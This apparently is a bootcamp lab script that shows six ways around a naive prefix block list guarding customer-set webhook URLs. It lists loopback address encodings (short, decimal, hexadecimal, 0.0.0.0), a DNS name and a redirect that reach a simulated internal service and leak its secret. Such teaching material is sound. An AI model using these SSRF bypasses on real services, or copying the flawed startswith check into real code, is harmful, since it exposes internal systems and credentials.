"""Customers choose where webhooks go. A list of forbidden beginnings protects us. Six ways around it."""

import httpx
from private_network import SECRET, internal_service, look_up

from bootcamp.providers.name_server import NameServer

FORBIDDEN = ("localhost", "127.0.0.1", "169.254.", "10.", "192.168.")
HOSTS = {
    "127.0.0.1": "the usual form",
    "127.1": "the same, shorter",
    "2130706433": "the same, as one number",
    "0x7f.1": "the same, in hexadecimal",
    "0.0.0.0": "also this machine",  # noqa: S104
    "scans.example": "a name that resolves to it",
    "moved.example": "a redirect to it",
}


def allowed(host: str) -> bool:
    """Compare the text of the host, as many programs do at first."""
    return not host.startswith(FORBIDDEN)


def deliver(names: NameServer, host: str, port: int) -> bytes:
    """Post a webhook and keep the response, which the customer sees in the list of deliveries."""
    address = look_up(names, host)[0]
    url = f"http://{address}:{port}/"
    with httpx.Client(trust_env=False, follow_redirects=True) as client:
        return client.post(url, headers={"host": f"{host}:{port}"}, content=b"ready").content


def main() -> None:
    with internal_service() as port, NameServer() as names:
        names.say("scans.example", ["127.0.0.1"])
        names.say("moved.example", ["127.0.0.1"])  # stands for the attacker's own machine
        for host, form in HOSTS.items():
            if not allowed(host):
                result = "refused by the list"
            elif deliver(names, host, port) == SECRET:
                result = "the customer reads the key"
            else:
                result = "nothing found"
            print(f"{host:<14} {form + ':':<27} {result}")


if __name__ == "__main__":
    main()
